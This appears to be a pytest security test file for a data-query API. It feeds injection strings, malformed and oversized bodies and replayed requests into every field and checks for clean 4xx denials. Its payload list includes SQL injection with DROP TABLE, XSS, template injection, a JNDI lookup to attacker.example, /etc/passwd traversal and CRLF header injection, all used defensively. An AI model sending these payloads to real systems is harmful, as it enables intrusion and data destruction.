"""Hostile bodies: injection strings in every field, malformed and oversized bodies, replayed requests.

Each gets a clear 4xx problem+json with its reason code, never a server error, releases no data,
and leaves one denial row in the audit table. Afterwards the database is intact.
"""

import json
import sqlite3
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

import pytest

from shuyuan import sample_catalogue
from tests.security.conftest import Hostile

INJECTIONS = [
    "' OR '1'='1' --",
    "'; DROP TABLE audit_entry; --",
    '" OR ""="',
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "\u0000",
    "line\r\nX-Injected: yes",
    "%00%27",
    "\u202e\u0645",  # right-to-left override
    "ｘ' ＯＲ '１'='１",  # fullwidth look-alikes
    "A" * 5000,
    "1; SELECT pg_sleep(10)",
    "$where: '1 == 1'",
]


def _set(body: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    body = json.loads(json.dumps(body))
    *parents, leaf = path.split(".")
    target = body
    for p in parents:
        target = target[p]
    if leaf == "elements":
        target[leaf] = ["person.name", value]
    else:
        target[leaf] = value
    return body


# field -> (status, reason) every injection string gets in that field
FIELDS = {
    "query_id": (422, "invalid_request"),
    "subject.type": (422, "invalid_request"),
    "subject.id": (None, None),  # 422 when too long, else 400 invalid_subject_id
    "elements": (422, "invalid_request"),
    "purpose.service_item": (422, "invalid_request"),
    "purpose.case_no": (422, "invalid_request"),
    "on_behalf_of": (422, "invalid_request"),
    "requested_at": (422, "invalid_request"),
}


@pytest.mark.parametrize("field", FIELDS)
def test_injection_strings_in_every_query_field_are_refused(hostile: Hostile, field: str) -> None:
    status, reason = FIELDS[field]
    for i, attack in enumerate(INJECTIONS):
        body = _set(hostile.body(query_id=f"q-inject-{i:04d}"), field, attack)
        before = len(hostile.denials())
        response = hostile.client.post("/v1/queries", json=body)
        if field == "subject.id":
            expected = (422, "invalid_request") if len(attack) > 32 else (400, "invalid_subject_id")
        else:
            expected = (status, reason)
        hostile.refused(response, *expected, before)  # type: ignore[arg-type]
        if response.status_code == 422:
            assert attack not in response.text  # field errors never echo the input


def test_injection_strings_in_the_token_form_are_refused(hostile: Hostile) -> None:
    for attack in INJECTIONS:
        for field in ("grant_type", "client_assertion_type", "client_assertion", "scope", "client_id"):
            form = {
                "grant_type": "client_credentials",
                "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
                "client_assertion": "a.b.c",
                field: attack,
            }
            before = len(hostile.denials())
            response = hostile.client.post("/oauth/token", data=form, headers={"Authorization": ""})
            assert response.status_code in (400, 401, 413, 422), (field, attack, response.text)
            hostile.refused(response, response.status_code, response.json()["reason"], before)


def test_injection_strings_in_registry_paths_and_parameters(hostile: Hostile) -> None:
    for attack in INJECTIONS:
        quoted = quote(attack, safe="")
        for path in (f"/v1/systems/{quoted}", f"/v1/systems/{quoted}/keys/k1/revoke"):
            method = "POST" if path.endswith("revoke") else "GET"
            response = hostile.client.request(method, path)
            assert 400 <= response.status_code < 500, (path, response.text)
        listing = hostile.client.get("/v1/elements", params={"q": attack[:100]})
        assert listing.status_code == 200  # a search term is data, never SQL
        if "\x00" not in attack:  # SQLite ends a LIKE pattern at NUL: matches all public metadata
            assert listing.json()["items"] == []
        assert hostile.client.get("/v1/elements", params={"limit": attack}).status_code == 422


MALFORMED: dict[str, tuple[bytes, str, int]] = {  # body, content type, expected status
    "not JSON": (b"{not json", "application/json", 422),
    "truncated": (b'{"query_id": "q-12345678", "subject": {', "application/json", 422),
    "an array": (b"[1, 2, 3]", "application/json", 422),
    "a string": (b'"hello"', "application/json", 422),
    "null": (b"null", "application/json", 422),
    "form-encoded": (b"query_id=q-12345678", "application/x-www-form-urlencoded", 422),
    # A body that cannot even be decoded (bad UTF-8, nesting past the parser's depth) is 400, not 422:
    # there is no JSON document to validate (FastAPI's body parsing).
    "invalid UTF-8": (b'{"query_id": "\xff\xfe"}', "application/json", 400),
    "deeply nested": (b'{"a":' * 5000 + b"1" + b"}" * 5000, "application/json", 400),
    "duplicate keys": (b'{"query_id": "q-12345678", "query_id": "q-87654321"}', "application/json", 422),
    "empty": (b"", "application/json", 422),
}


@pytest.mark.parametrize("case", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_bodies_are_refused(hostile: Hostile, case: tuple[bytes, str, int]) -> None:
    content, content_type, expected = case
    before = len(hostile.denials())
    response = hostile.client.post("/v1/queries", content=content, headers={"Content-Type": content_type})
    hostile.refused(response, expected, "invalid_request", before)


def test_an_oversized_body_is_413(hostile: Hostile) -> None:
    body = hostile.body(query_id="q-oversized-1") | {"padding": "x" * 70_000}
    before = len(hostile.denials())
    response = hostile.client.post("/v1/queries", json=body)
    hostile.refused(response, 413, "invalid_request", before)


def test_a_replayed_request_with_other_content_is_409_and_a_stale_one_400(hostile: Hostile) -> None:
    original = hostile.body(query_id="q-replay-00001")
    assert hostile.client.post("/v1/queries", json=original).status_code == 200
    # The same query_id with other content: an attacker cannot swap the subject or the elements.
    for change in (
        {"elements": ["person.name", "person.household_members"]},
        {"subject": {"type": "person", "id": hostile.embedded.subjects.person_only_in_psb}},
        {"purpose": {"service_item": "330100-GZF-001", "case_no": "OTHER-1"}},
    ):
        before = len(hostile.denials())
        hostile.refused(hostile.client.post("/v1/queries", json=original | change), 409, "conflict", before)
    # A captured request replayed after the freshness window.
    stale = original | {"requested_at": (datetime.now(UTC) - timedelta(minutes=6)).isoformat()}
    before = len(hostile.denials())
    hostile.refused(hostile.client.post("/v1/queries", json=stale), 400, "invalid_request", before)


def test_the_database_is_intact_after_the_attacks(hostile: Hostile) -> None:
    with sqlite3.connect(hostile.db) as conn:
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"audit_entry", "department", "client_system", "query_record"} <= tables
        assert conn.execute("SELECT COUNT(*) FROM department").fetchone()[0] == len(
            sample_catalogue.DEPARTMENTS
        )
        reasons = {
            r[0] for r in conn.execute("SELECT DISTINCT reason FROM audit_entry WHERE decision='deny'")
        }
    assert reasons >= {"invalid_request", "invalid_subject_id", "conflict"}
    assert all(
        json.loads(e) is not None
        for (e,) in sqlite3.connect(hostile.db).execute("SELECT elements FROM audit_entry")
    )
